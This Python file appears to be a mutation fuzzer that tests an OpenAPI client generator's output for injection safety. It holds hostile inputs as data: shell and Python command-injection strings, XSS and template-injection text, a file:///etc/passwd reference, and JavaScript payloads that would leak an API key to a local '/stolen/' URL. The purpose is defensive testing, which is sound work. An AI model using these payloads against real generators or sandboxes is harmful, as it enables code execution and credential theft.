"""A seeded mutation fuzzer: the real Permit and PDP specs (the control plane in random slices of
a few paths, to keep a mutant fast), changed at random, through `apigen generate`.

Invariants for every mutant: the exit code is 0, 2 or 4; no traceback and no internal error;
nothing is written outside the output folder (and the cache); and for exit 0 the Postman
collection validates against the v2.1 schema and names `{{apiKey}}` only in its auth, every curl
snippet passes `bash -n`, and every file of the Python package compiles. For a share of the
mutants that generate (`--execute-every N`: the indexes divisible by N), the generated packages
also run: the Python package is imported (`import pkg, pkg.models, pkg.client`) and the
TypeScript package compiled by tsc 7 and imported by Node, each in a subprocess, and the markers
hostile text tries to set (a file `pwned` in the working folder, the global `PWNED`) stay unset;
and newman runs the collection against a server on 127.0.0.1, where no spec text may run in
the sandbox (#34: the `sandbox` mutation puts ajv code-generation payloads into schemas).

`python tests/support/fuzz.py --count N [--seed S]` runs more mutants (a random seed unless given) and
prints the seed and index of each failure, so that `--seed S --only I` replays one.
"""

from __future__ import annotations

import argparse
import copy
import json
import random
import re
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from helpers import PDP_SPEC, PERMIT_SPEC, SHARED, TSC, repo_config, run_cli
from hostile import BREAKOUTS

HOSTILE = [
    "'; touch pwned; echo '",
    '"$(touch pwned)"',
    "`touch pwned`",
    "line\nbreak\r\n",
    "</script><script>alert(1)</script>",
    "{{ 7*7 }} {% raise %}",
    '""" + __import__("os").system("touch pwned") + """',
    "\u2028\u2029\x00\x1b[31m",
    "日本語 é ñ 🙂",
    "a" * 3000,
    "class",
    "__init__",
    "",
    "-",
    "$ref",
    "\r",
    "\u2028",
    "\u2029",
    "\x85",
    "{{apiKey}}",
    "a/b",
    "x~y/z",
    *BREAKOUTS,
]
REFS = [
    "#/components/schemas/DoesNotExist",
    "#/paths",
    "#",
    "other.json#/X",
    "file:///etc/passwd#/x",
    "https://elsewhere.example.test/x.json",
    "#/components/schemas/",
]
VALUES: list[Any] = [None, 0, -1, 1.5, "", "text", True, [], {}, [1, "a"], {"a": 1}]
# #34: what a spec could hand Postman's sandbox (ajv 6 generates code from a schema). The code
# throws a marker a run would show, reads the key and tries to leave the base URL.
_JS = (
    "if (typeof pm !== `undefined`) {pm.environment.set(`pwned`,`yes`);"
    "pm.sendRequest(`http://127.0.0.1:9/stolen/`+pm.environment.get(`apiKey`));}"
    "throw new Error(`APIGEN-PWNED`)"
)
_EVIL_TYPE = f'x" || (function(){{{_JS}}})() || "'
SANDBOX: list[Any] = [
    {"type": ["string", _EVIL_TYPE]},
    {"type": _EVIL_TYPE},
    {"type": ["object", _EVIL_TYPE], "properties": {"__proto__": {"type": _EVIL_TYPE}}},
    {"type": "string", "pattern": "^(a+)+$"},
    {"type": "string", "maxLength": f"1; {_JS}"},
    {"type": "number", "multipleOf": f"1) || (function(){{{_JS}}})() || (1"},
    {"type": "object", "required": [f"a'] || (function(){{{_JS}}})() || ['"]},
    {"$ref": f"#/definitions/x' + (function(){{{_JS}}})() + '"},
]
SANDBOX_KEYWORDS = ("propertyNames", "contains", "if", "not", "items", "additionalProperties")


def _nodes(document: Any) -> list[tuple[Any, Any, Any]]:
    """(parent, key, value) for every node under the root."""
    out = []
    stack = [document]
    while stack:
        node = stack.pop()
        items = node.items() if isinstance(node, dict) else enumerate(node)
        for key, value in items:
            out.append((node, key, value))
            if isinstance(value, dict | list):
                stack.append(value)
    return out


def _refs(node: Any) -> set[str]:
    return set(re.findall(r'"#/components/schemas/([^"]+)"', json.dumps(node)))


def permit_slice(spec: dict[str, Any], rng: random.Random) -> dict[str, Any]:
    """A few of the control plane's paths and every schema they reach."""
    paths = sorted(spec["paths"])
    chosen = rng.sample(paths, rng.randint(2, 6))
    out = {k: v for k, v in spec.items() if k not in ("paths", "components")}
    out["paths"] = {p: spec["paths"][p] for p in chosen}
    schemas = spec.get("components", {}).get("schemas", {})
    wanted: set[str] = set()
    todo = _refs(out["paths"])
    while todo:
        name = todo.pop()
        if name in wanted or name not in schemas:
            continue
        wanted.add(name)
        todo |= _refs(schemas[name])
    components = dict(spec.get("components", {}))
    components["schemas"] = {k: v for k, v in schemas.items() if k in wanted}
    out["components"] = components
    return copy.deepcopy(out)


def _schemas(document: dict[str, Any]) -> dict[str, Any]:
    components = document.get("components")
    schemas = components.get("schemas") if isinstance(components, dict) else None
    return schemas if isinstance(schemas, dict) else {}


def mutate(document: dict[str, Any], rng: random.Random) -> list[str]:
    """One to three random structural changes, in place; returns what was done."""
    done = []
    for _ in range(rng.randint(1, 3)):
        nodes = _nodes(document)
        if not nodes:
            break
        parent, key, value = rng.choice(nodes)
        kind = rng.choice(
            [
                "delete",
                "duplicate",
                "retype",
                "hostile",
                "ref",
                "recursive",
                "empty",
                "hostile-key",
                "slash-name",
                "sandbox",
                "boolean-schema",
                "extension",
                "allof-self",
            ]
        )
        if kind == "delete":
            del parent[key]
        elif kind == "duplicate" and isinstance(parent, dict):
            parent[f"{key}{rng.choice(['', '_', 'X', ' ', '-'])}{rng.randint(0, 9)}"] = (
                copy.deepcopy(value)
            )
        elif kind == "duplicate":
            parent.append(copy.deepcopy(value))
        elif kind == "retype":
            parent[key] = copy.deepcopy(rng.choice(VALUES))
        elif kind == "hostile":
            parent[key] = rng.choice(HOSTILE)
        elif kind == "hostile-key" and isinstance(parent, dict):
            parent[rng.choice(HOSTILE)] = parent.pop(key)
        elif kind == "ref":
            schemas = list(_schemas(document))
            choices = REFS + [f"#/components/schemas/{s}" for s in schemas[:20]]
            parent[key] = {"$ref": rng.choice(choices)}
        elif kind == "recursive":
            schemas = _schemas(document)
            if schemas:
                name = rng.choice(sorted(schemas))
                if isinstance(schemas[name], dict):
                    schemas[name].setdefault("properties", {})
                    if isinstance(schemas[name]["properties"], dict):
                        schemas[name]["properties"]["self"] = {
                            "$ref": f"#/components/schemas/{name}"
                        }
        elif kind == "slash-name":
            _slash_name(document, rng)
        elif kind == "sandbox":
            _sandbox(document, rng)
        elif kind == "boolean-schema":
            _boolean_schema(document, rng)
        elif kind == "extension":
            _extension(document, rng)
        elif kind == "allof-self":
            _allof_self(document, rng)
        elif kind == "empty" and isinstance(value, dict | list):
            parent[key] = type(value)()
        done.append(f"{kind} at {key!r}"[:80])
    return done


def _sandbox(document: dict[str, Any], rng: random.Random) -> None:
    """A sandbox payload (SANDBOX) in a keyword of a random schema-like object, or as one of
    its properties: anywhere, answers included."""
    schemas = [
        v for _, _, v in _nodes(document) if isinstance(v, dict) and ("type" in v or "$ref" in v)
    ]
    if not schemas:
        return
    target = rng.choice(schemas)
    payload = copy.deepcopy(rng.choice(SANDBOX))
    if "$ref" in target or rng.random() < 0.5:
        target[rng.choice(SANDBOX_KEYWORDS)] = payload
    else:
        target.setdefault("properties", {})
        if isinstance(target["properties"], dict):
            target["properties"][rng.choice(["evil", "__proto__", "constructor"])] = payload


def _boolean_schema(document: dict[str, Any], rng: random.Random) -> None:
    """A 3.1 boolean schema (`true`, `false`) in place of a random schema-like object's
    property, items or whole self."""
    holders = [
        (parent, key)
        for parent, key, value in _nodes(document)
        if isinstance(value, dict) and ("type" in value or "$ref" in value)
    ]
    if not holders:
        return
    parent, key = rng.choice(holders)
    target = parent[key]
    value = rng.choice([True, False])
    where = rng.choice(["self", "property", "items"])
    if where == "property" and isinstance(target.get("properties"), dict):
        target["properties"][rng.choice(["anything", "nothing"])] = value
    elif where == "items":
        target["type"], target["items"] = "array", value
    else:
        parent[key] = value


def _extension(document: dict[str, Any], rng: random.Random) -> None:
    """An `x-` key among the paths or an operation's answers (OpenAPI allows both)."""
    places: list[Any] = [document.get("paths")]
    for item in (document.get("paths") or {}).values():
        for op in item.values() if isinstance(item, dict) else ():
            if isinstance(op, dict) and isinstance(op.get("responses"), dict):
                places.append(op["responses"])
    place = rng.choice(places)
    if isinstance(place, dict):
        place[f"x-{rng.choice(['note', 'codegen', ''])}"] = copy.deepcopy(rng.choice(VALUES))


def _allof_self(document: dict[str, Any], rng: random.Random) -> None:
    """A property of a component schema that merges that schema again (`allOf` of its `$ref`
    and notes, or of its `$ref` and more fields): a schema inside itself."""
    schemas = _schemas(document)
    objects = sorted(n for n, v in schemas.items() if isinstance(v, dict))
    if not objects:
        return
    name = rng.choice(objects)
    other = rng.choice([{"description": "again"}, {"type": "object", "properties": {"n": {}}}])
    schemas[name].setdefault("properties", {})
    if isinstance(schemas[name]["properties"], dict):
        ref = {"$ref": f"#/components/schemas/{name.replace('~', '~0').replace('/', '~1')}"}
        schemas[name]["properties"]["again"] = {"allOf": [ref, other]}


def _slash_name(document: dict[str, Any], rng: random.Random) -> None:
    """A component schema renamed with `/` (and `~`) in its name, its references rewritten in
    JSON-pointer form (`a~1b`)."""
    schemas = _schemas(document)
    if not schemas:
        return
    old = rng.choice(sorted(schemas))
    new = f"{old}/{rng.choice(['x', 'a~b', ''])}"
    schemas[new] = schemas.pop(old)
    escaped = new.replace("~", "~0").replace("/", "~1")
    for parent, key, value in _nodes(document):
        if key == "$ref" and value == f"#/components/schemas/{old}":
            parent[key] = f"#/components/schemas/{escaped}"


def mutants(
    api: str, seed: int, count: int, start: int = 0
) -> Iterator[tuple[int, dict[str, Any], list[str]]]:
    base = json.loads((PERMIT_SPEC if api == "permit" else PDP_SPEC).read_text())
    for index in range(start, start + count):
        rng = random.Random(f"{seed}:{api}:{index}")
        document = permit_slice(base, rng) if api == "permit" else copy.deepcopy(base)
        changes = mutate(document, rng)
        yield index, document, changes


class Timeout(Exception):
    pass


def _alarm(signum: int, frame: Any) -> None:
    raise Timeout()


def _postman_schema() -> Any:
    return json.loads((SHARED / "schemas" / "postman-collection-v2.1.0.schema.json").read_text())


def execute(api: str, out: Path, work: Path) -> list[str]:
    """Import the Python package and compile and import the TypeScript one, in subprocesses;
    what went wrong (nothing: an empty list)."""
    problems = []
    python = out / "clients" / "python"
    package = next((p.name for p in python.iterdir() if (p / "__init__.py").exists()), None)
    if package is not None:
        probe = (
            "import sys, importlib; sys.path.insert(0, sys.argv[1]); "
            "[importlib.import_module(m) for m in sys.argv[2:]]"
        )
        modules = [package, f"{package}.models", f"{package}.client"]
        ran = subprocess.run(
            [sys.executable, "-c", probe, str(python), *modules],
            cwd=work, capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        if ran.returncode != 0:
            problems.append(f"python import: {ran.stderr.strip()[-300:]}")
    typescript = out / "clients" / "typescript"
    built = subprocess.run(
        [str(TSC["7"]), "-p", "tsconfig.json"], cwd=typescript, capture_output=True, text=True,
        timeout=300,
    )  # fmt: skip
    if built.returncode != 0:
        problems.append(f"tsc: {built.stdout.strip()[:300]}")
    else:
        probe = (
            "await import(process.argv[1]);"
            "if (globalThis.PWNED !== undefined) { console.log('PWNED set'); process.exit(3); }"
        )
        index = (typescript / "dist" / "index.js").as_uri()
        ran = subprocess.run(
            ["node", "--input-type=module", "-e", probe, index],
            cwd=work, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        if ran.returncode != 0:
            problems.append(f"node import: {(ran.stdout + ran.stderr).strip()[-300:]}")
    if (work / "pwned").exists():
        problems.append("a marker file was written")
    problems += run_newman(api, out, work)
    return problems


# answered to every request of a newman run: something of every JSON type, and a text a
# backtracking pattern could choke on
NEWMAN_ANSWER = json.dumps(
    {"key": "a" * 60 + "!", "id": 1, "items": ["x", 2, None], "evil": {"a": "b"}, "n": 1.5}
).encode()


def run_newman(api: str, out: Path, work: Path) -> list[str]:
    """newman runs the mutant's collection against a server on 127.0.0.1 that answers every
    request with NEWMAN_ANSWER: no spec text runs (no marker thrown, the environment as it was,
    no request off the base URL), within a bounded time."""
    from helpers import NODE_BIN, Server, serve

    server = Server(url="")
    server.routes["*"] = lambda r: (200, {"Content-Type": "application/json"}, NEWMAN_ANSWER)
    httpd, thread = serve(server)
    folder = out / "postman"
    report, exported = work / "newman.json", work / "newman-env.json"
    environment = next(folder.glob("*.postman_environment.json"))
    try:
        subprocess.run(
            [
                str(NODE_BIN / "newman"), "run", str(folder / f"{api}.postman_collection.json"),
                "-e", str(environment), "--env-var", f"baseUrl={server.url}",
                "--env-var", "apiKey=FUZZ-KEY", "--reporters", "json",
                "--reporter-json-export", str(report), "--export-environment", str(exported),
                "--timeout-script", "20000",
            ],
            capture_output=True, timeout=300, check=False, cwd=work,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return ["newman: the run took longer than 300 s"]
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(5)
    problems = []
    try:
        run = json.loads(report.read_text())["run"]
        values = {v["key"]: v["value"] for v in json.loads(exported.read_text())["values"]}
    except (OSError, ValueError, KeyError):
        return ["newman: no report"]
    if "PWNED" in json.dumps(run["failures"]):
        problems.append("newman: spec text ran in the sandbox")
    if "pwned" in values or values.get("baseUrl") != server.url:
        problems.append("newman: the environment was changed")
    if any("FUZZ-KEY" in r.path for r in server.requests):
        problems.append("newman: the key reached a URL")
    return problems


def check(
    api: str, document: dict[str, Any], work: Path, *, run_packages: bool = False
) -> list[str]:
    """Generate from one mutant in `work`; the invariants it broke (none: an empty list).
    `run_packages`: also import and compile the generated packages (see `execute`)."""
    import jsonschema

    work.mkdir(parents=True, exist_ok=True)
    source = work / "mutant.json"
    source.write_text(json.dumps(document))
    config = repo_config(work)
    before = {p for p in work.iterdir()}
    signal.signal(signal.SIGALRM, _alarm)
    signal.alarm(60)
    try:
        result = run_cli(
            "generate",
            api,
            "-q",
            "--offline",
            "-c",
            str(config),
            "--source",
            str(source),
            "--out",
            str(work / "out"),
        )
    except Timeout:
        return ["took longer than 60 s"]
    finally:
        signal.alarm(0)
    problems = []
    if result.code not in (0, 2, 4):
        problems.append(f"exit {result.code}: {result.stderr.strip()[:300]}")
    if "Traceback" in result.stderr or "internal error" in result.stderr:
        problems.append(f"traceback: {result.stderr.strip()[:300]}")
    extra = (
        {p.name for p in work.iterdir()}
        - {p.name for p in before}
        - {"out", "cache", "apigen.lock.json"}
    )
    if extra:
        problems.append(f"wrote outside --out: {sorted(extra)}")
    if result.code != 0:
        return problems
    out = work / "out" / api
    collection = json.loads((out / "postman" / f"{api}.postman_collection.json").read_text())
    errors = list(jsonschema.Draft7Validator(_postman_schema()).iter_errors(collection))
    if errors:
        problems.append(f"postman: {errors[0].message[:200]}")
    if json.dumps(collection).count("{{apiKey}}") != 1:
        problems.append("postman: {{apiKey}} outside the collection's auth")
    snippets = json.loads((out / "curl" / "snippets.json").read_text())
    script = "\n".join(s["snippet"] for s in snippets.values()) + "\n"
    bash = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True)
    if bash.returncode != 0:
        problems.append(f"bash -n: {bash.stderr.strip()[:200]}")
    for path in sorted((out / "clients" / "python").rglob("*.py")):
        try:
            compile(path.read_text(), str(path), "exec")
        except SyntaxError as exc:
            problems.append(f"python: {path.name}: {exc}")
    if run_packages and not problems:
        problems += execute(api, out, work)
        EXECUTED.append(1)
    return problems


EXECUTED: list[int] = []  # one entry per mutant whose packages were run (for the counts shown)


def run_chunk(
    api: str, seed: int, start: int, count: int, work: Path, execute_every: int = 0
) -> list[str]:
    """The failures among `count` mutants from `start` (what the test suite asserts empty);
    the packages of every `execute_every`-th mutant that generates are run too."""
    failures = []
    for index, document, changes in mutants(api, seed, count, start):
        run_packages = execute_every > 0 and index % execute_every == 0
        problems = check(api, document, work / str(index), run_packages=run_packages)
        if problems:
            failures.append(f"{api} seed {seed} index {index} ({'; '.join(changes)}): {problems}")
    return failures


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--count", type=int, default=500)
    parser.add_argument("--seed", type=int, default=None)
    parser.add_argument("--only", type=int, default=None, help="replay one mutant index")
    parser.add_argument("--api", choices=["permit", "pdp"], action="append")
    parser.add_argument(
        "--execute-every",
        type=int,
        default=5,
        help="import/compile the packages of every Nth mutant (0: never)",
    )
    args = parser.parse_args()
    seed = args.seed if args.seed is not None else random.SystemRandom().randrange(2**31)
    print(f"seed {seed}", flush=True)
    import tempfile

    failures = 0
    for api in args.api or ["permit", "pdp"]:
        start, count = (args.only, 1) if args.only is not None else (0, args.count)
        for index, document, changes in mutants(api, seed, count, start):
            run_packages = args.execute_every > 0 and index % args.execute_every == 0
            with tempfile.TemporaryDirectory() as folder:
                problems = check(api, document, Path(folder), run_packages=run_packages)
            if problems:
                failures += 1
                print(
                    f"FAIL {api} seed {seed} index {index} ({'; '.join(changes)}): {problems}",
                    flush=True,
                )
    print(f"{failures} failure(s); packages imported and compiled for {len(EXECUTED)} mutant(s)")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
